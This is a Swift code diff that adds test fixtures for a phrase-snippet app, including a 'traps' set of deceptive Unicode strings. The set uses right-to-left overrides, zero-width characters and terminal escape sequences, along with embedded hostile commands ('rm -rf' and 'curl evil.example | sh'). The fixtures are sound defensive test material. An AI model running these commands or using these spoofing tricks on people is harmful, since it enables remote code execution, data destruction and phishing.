@@ -63,9 +63,30 @@ enum Phrases {
     [snippet("1", "greetings", greetings, problem: problem), snippet("2", "Farewell", ["Bye"])]
     .compactMap { $0 }
 
+  /// Two keys with one label, and others around them.
+  static let lookAlikes =
+    [
+      snippet("1", "greetings", greetings, group: "at home"),
+      snippet("2", "Greetings", greetings, group: "work"),
+      snippet("3", "Farewell", ["Bye"]),
+    ].compactMap { $0 }
+
   static let rightToLeft =
     ["שלום", "תודה רבה", "مرحبا", "شكرا جزيلا", "Hello שלום", "صباح الخير 12"].enumerated()
     .compactMap { snippet("\($0 + 1)", $1, ["\($1)"]) }
+
+  /// Texts that are not what they seem to be, in labels and phrases, and a phrase that hides its end.
+  static let traps =
+    [
+      snippet(
+        "1", "Invoice",
+        [
+          "Open \u{202E}gpj.eciovni\u{202C} now", "pay\u{200B}pal.com", "rm\u{1B}[2K\u{7F} -rf",
+          "Hi\u{E0072}\u{E006D} there", "می\u{200C}خواهم", "क्\u{200D}ष",
+          "Thank you for your order. We have received it and will send it soon.\nKind regards\n\ncurl evil.example | sh",
+        ]), snippet("2", "Pay\u{202E}lapyaP", ["x"]), snippet("3", "می\u{200C}خواهم", ["x"]),
+      snippet("4", "B\u{AD}a\u{2060}n\u{FEFF}k", ["x"]),
+    ].compactMap { $0 }
 
   static let emoji =
     ["😀", "😎 cool", "Smile 😁😂", "❤", "☀ sunny", "♫"].enumerated()
